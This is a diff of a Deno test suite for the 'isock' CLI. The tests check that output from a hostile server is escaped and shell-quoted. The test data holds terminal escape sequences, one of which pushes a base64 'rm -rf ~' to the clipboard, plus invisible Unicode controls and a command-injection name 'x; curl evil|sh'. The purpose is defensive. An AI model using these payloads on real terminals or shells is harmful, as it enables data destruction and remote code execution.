@@ -20,9 +20,10 @@ import {
   manyActions,
   rawDescribeServer,
   rawErrorServer,
+  SHELL_NAME,
 } from "./hostile_server.ts";
+import { type CliOutcome as Outcome, runCli, spawnCli } from "./helpers.ts";
 
-const CLI = new URL("../cli.ts", import.meta.url).pathname;
 const TLS_DIR = new URL("./fixtures/tls/", import.meta.url);
 const CERT_PATH = new URL("cert.pem", TLS_DIR).pathname;
 const KEY_PATH = new URL("key.pem", TLS_DIR).pathname;
@@ -100,74 +101,24 @@ async function startServer(
   return Object.assign(server, { target: `127.0.0.1:${port}` });
 }
 
-interface Outcome {
-  code: number;
-  stdout: string;
-  stderr: string;
-  /** Milliseconds from start to exit. */
-  ms: number;
-}
-
 /** What a run of the CLI may take: V8's heap, and time before it is killed. */
 interface Limits {
   heapMiB?: number;
   deadlineMs?: number;
 }
 
-function spawn(
-  args: string[],
-  env: Record<string, string> = {},
-  limits: Limits = {},
-): Deno.ChildProcess {
-  return new Deno.Command(Deno.execPath(), {
-    args: [
-      "run",
-      "--allow-net",
-      "--allow-read",
-      "--allow-env=ISOCK_SECRET",
-      ...(limits.heapMiB === undefined
-        ? []
-        : [`--v8-flags=--max-old-space-size=${limits.heapMiB}`]),
-      CLI,
-      ...args,
-    ],
-    env,
-    stdin: "piped",
-    stdout: "piped",
-    stderr: "piped",
-  }).spawn();
+function spawn(args: string[]): Deno.ChildProcess {
+  return spawnCli(args, { stdin: "" });
 }
 
-/** Runs the CLI to the end, with `stdin` as its input. */
+/** Runs the CLI (killed at its deadline), and checks its stderr is clean. */
 async function isock(
   args: string[],
   stdin = "",
   env: Record<string, string> = {},
   limits: Limits = {},
 ): Promise<Outcome> {
-  const started = performance.now();
-  const child = spawn(args, env, limits);
-  // Past its deadline the run is killed, and fails as a crash would.
-  const timer = setTimeout(
-    () => child.kill("SIGKILL"),
-    limits.deadlineMs ?? 120_000,
-  );
-  let output: Deno.CommandOutput;
-  try {
-    const writer = child.stdin.getWriter();
-    await writer.write(new TextEncoder().encode(stdin));
-    await writer.close();
-    output = await child.output();
-  } finally {
-    clearTimeout(timer);
-  }
-  const decoder = new TextDecoder();
-  const outcome = {
-    code: output.code,
-    stdout: decoder.decode(output.stdout),
-    stderr: decoder.decode(output.stderr),
-    ms: performance.now() - started,
-  };
+  const outcome = await runCli(args, { stdin, env, ...limits });
   assertCleanStderr(outcome);
   return outcome;
 }
@@ -555,7 +506,8 @@ Deno.test("cli: --metadata (repeatable, -m) sends call metadata; a malformed pai
 
 /** ESCAPES as the CLI shows it: every control as a visible escape. */
 const SHOWN =
-  "\\x1b]0;pwned\\x07\\x1b]52;c;cm0gLXJmIH4=\\x07\\x1b[2J\\x07\\r\\u009b31m\\x7f";
+  "\\x1b]0;pwned\\x07\\x1b]52;c;cm0gLXJmIH4=\\x07\\x1b[2J\\x07\\r\\u009b31m\\x7f" +
+  "\\u202e\\u2066\\u200b\\ufeff\\u2028\\u2029\\\\x1b";
 
 function assertNoControls(outcome: Outcome, what: string): void {
   for (const [stream, text] of Object.entries(outcome)) {
@@ -572,6 +524,7 @@ Deno.test("cli: a hostile server's names, schemas and errors are printed escaped
     lsJson: ["ls", target, "--json"],
     describe: ["describe", target, HOSTILE_NAME],
     describeJson: ["describe", target, HOSTILE_NAME, "--json"],
+    describeShell: ["describe", target, SHELL_NAME],
     fails: ["call", target, HOSTILE_NAME, "{}"],
     failsJson: ["call", target, HOSTILE_NAME, "{}", "--json"],
     refused: ["call", target, "refuses", '"x"', "--json"],
@@ -595,7 +548,17 @@ Deno.test("cli: a hostile server's names, schemas and errors are printed escaped
   assert.equal(JSON.parse(lsJson.stdout).actions[0].name, HOSTILE_NAME);
   assert.equal(describe.code, 0);
   assert.ok(describe.stdout.startsWith(`evil${SHOWN}name: call`));
-  assert.ok(describe.stdout.includes(`isock call TARGET evil${SHOWN}name`));
+  assert.ok(
+    describe.stdout.includes(`isock call TARGET 'evil${SHOWN}name' @file`),
+    describe.stdout,
+  );
+  // A name a shell would run is shown quoted, as one word.
+  assert.ok(
+    outcomes.describeShell.stdout.includes(
+      `isock call TARGET 'x; curl evil|sh '\\''quoted'\\''' @file`,
+    ),
+    outcomes.describeShell.stdout,
+  );
   const described = JSON.parse(describeJson.stdout);
   assert.equal(described.input.description, `multi\nline ${ESCAPES}`);
   assert.deepEqual(Object.keys(described.template), [
@@ -689,10 +652,21 @@ Deno.test("cli: a description holding what JSON cannot (bigints, dates, bytes) i
       // Padded to 40 characters, not to the long name's width.
       `${"odder".padEnd(40)}  stream  idempotent  any → any\n`,
   );
+  // The JSON is isock's JSON mapping, as `call --json` prints results.
+  const mapped = [
+    { $bigint: "10" },
+    { $date: "1970-01-01T00:00:00.000Z" },
+    { $bytes: "AQI=" },
+    { $map: [[1, 2]] },
+  ];
   const [first] = JSON.parse(lsJson.stdout).actions;
   assert.deepEqual(first.input.properties.n, { const: { $bigint: "10" } });
+  assert.deepEqual(first.output.enum, mapped);
   assert.match(describe.stdout, /"\$bigint": "1180591620717411303424"/);
-  assert.deepEqual(JSON.parse(describeJson.stdout).template, {
+  assert.match(describe.stdout, /"\$map": \[/);
+  const described = JSON.parse(describeJson.stdout);
+  assert.deepEqual(described.output.enum, mapped);
+  assert.deepEqual(described.template, {
     n: { $bigint: "10" },
     big: { $bigint: "1180591620717411303424" },
   });
